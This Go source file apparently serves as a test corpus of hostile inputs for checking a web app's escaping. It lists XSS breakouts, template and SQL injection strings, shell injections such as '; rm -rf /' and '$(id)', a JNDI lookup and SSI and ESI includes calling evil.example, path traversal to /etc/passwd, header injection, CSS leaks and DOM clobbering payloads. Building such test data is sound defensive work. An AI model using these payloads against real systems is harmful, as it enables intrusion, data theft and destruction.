package hostile

import "strings"

// data holds texts that break out of JSON, and out of JSON inside HTML.
var data = []string{
	`"}</script><script>pwned(100)</script>`, `\"}];pwned(101);//`, `</script><!--<script>`, "<!--<script>pwned(102)", "\u2028pwned(103)\u2029", `\u003c/script\u003e`, `\`, `\\`, `"`, `'`, "`", `\"`, `{"__proto__":{"x":1}}`,
	`","@type":"Evil","x":"`, `null`, `true`, `[]`, `{}`, `{"$ref":"#"}`, "\\x3cscript\\x3epwned(104)\\x3c/script\\x3e", `*/pwned(105)/*`, `';pwned(106);'`, "${pwned(107)}", "`+pwned(108)+`", "<\\/script>", "]]></script>",
}

// programs holds code in template, query and shell languages.
var programs = []string{
	"{{.}}", "{{template \"item.html\" .}}", "{{range 2000000000}}{{end}}", "{{define \"item.html\"}}x{{end}}", "{{printf \"%999999999d\" 1}}", "{{.Site}}", "{% include '/etc/passwd' %}", "<%= pwned %>", "[[pwned]]", "#{pwned}", "${jndi:ldap://evil.example/x}",
	"<!--#include file=\"/etc/passwd\" -->", "<!--#exec cmd=\"id\" -->", "<esi:include src=\"//evil.example/\"/>", "; rm -rf /", "$(id)", "`id`", "' OR 1=1 --", "input | halt_error", "env.HOME", "%s%s%s%n", "{0}", "{id}", "{sku}", "../../../etc/passwd", "..%2f..%2f", "%00", "%0d%0aSet-Cookie:x=1", "\r\nSet-Cookie: x=1\r\n\r\n<script>pwned(110)</script>",
}

// letters returns texts of unusual or excessive Unicode and markup.
func letters() []string {
	return []string{
		"\u202Egnp.exe", "\u2066\u2067abc", "a\u200Bb\u200Cc\u200Dd\uFEFFe", "\uFEFF", "\uFFFD\uFFFE\uFFFF", "＜script＞pwned(120)＜/script＞", "﹤img src=x onerror=pwned(121)﹥", "‹script›", "ＪａｖａＳｃｒｉｐｔ：pwned(122)",
		strings.Repeat("Z\u0350\u0321\u0334\u0355", 60), strings.Repeat("W", 3000), strings.Repeat("长", 900), strings.Repeat("a ", 1500), "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 <b>", "👨‍👩‍👧‍👦🏳️‍🌈", "\U0001F1E9\U0001F1EA\U000E0067", "\uE000\uF8FF",
		"\x00<script>pwned(123)</script>", "<scr\x00ipt>pwned(124)</script>", "\x1b[31mred\x1b[0m", "\x08\x08\x08", "\x7f", "\u0085\u00a0", "\t\n\r ", " ", "\u2062", "K\u212Aſcript", "<\u017Fcript>pwned(125)</\u017Fcript>", "İ<ı>", strings.Repeat("<b>", 200),
		strings.Repeat("<div>", 400) + "pwned", strings.Repeat("&", 500), strings.Repeat("<!--", 300), strings.Repeat("\"'", 400),
	}
}

// styles holds CSS and attributes that cover the page, leak it, or imitate its parts.
var styles = []string{
	"<p style='position:fixed;inset:0;background:red'>x</p>", "<style>*{display:none}</style>", "<style>@import url(//evil.example/x.css);</style>", "x:expression(pwned(130))", "url(javascript:pwned(131))", "};*{display:none}", "</style><script>pwned(132)</script>",
	"<div style=\"background:url('//evil.example/?')\">", "<p class=offer data-part=offer data-live=price.amount>x</p>", "<div id=main data-live-url=//evil.example/>x</div>", "<section data-load=//evil.example/>x</section>", "<ul data-blobs=//evil.example/><li data-card=1></ul>",
}

// numbers holds texts that resemble numbers.
var numbers = []string{"1e999", "-0", "NaN", "Infinity", "0x10", "1,000.00", "1.000,00", "00012", "1.", ".5", "+5", "--5", "1e-7", strings.Repeat("9", 80), "0." + strings.Repeat("3", 70), "٣", "½", "5%", "€5", "5 000"}

// names holds texts that clash with names that scripts use.
var names = []string{
	"<a id=main href=#>x</a>", "<form id=main><input name=dataset></form>", "<img name=getElementById>", "<img id=document>", "<form name=fetch>", "<a id=location href=//evil.example/>", "<input name=cookie>", "<form id=defaultView>",
	"__proto__", "constructor", "toString", "hasOwnProperty", "<img name=body>", "<embed name=querySelectorAll>", "prototype.polluted",
}

// entities holds encoded attacks, which run where a text is decoded once too often.
var entities = []string{
	"&lt;script&gt;pwned(140)&lt;/script&gt;", "&#60;img src=x onerror=pwned(141)&#62;", "&amp;lt;script&amp;gt;pwned(142)", "&#x3c;svg/onload=pwned(143)&#x3e;", "&lt", "&#0;", "&#x110000;", "&nosuch;", "&quot; onerror=pwned(144) &quot;", "&NewLine;javascript&colon;pwned(145)", "%3Cscript%3Epwned(146)%3C/script%3E", "+ADw-script+AD4-pwned(147)+ADw-/script+AD4-",
}

// splitters holds texts with the separators that joined keys and paths use.
var splitters = []string{"a,b", "a b", "a/b", "a\\b", "a.b", "a..b", "..a", "a:b", "a;b", "a=b", "a&b=c", "a#b", "a?b", "a%b", "a{b}", "a}b{", "a*b", "a>b", "a|b", "~", "-", "_", "a@b", "a'b\"c"}
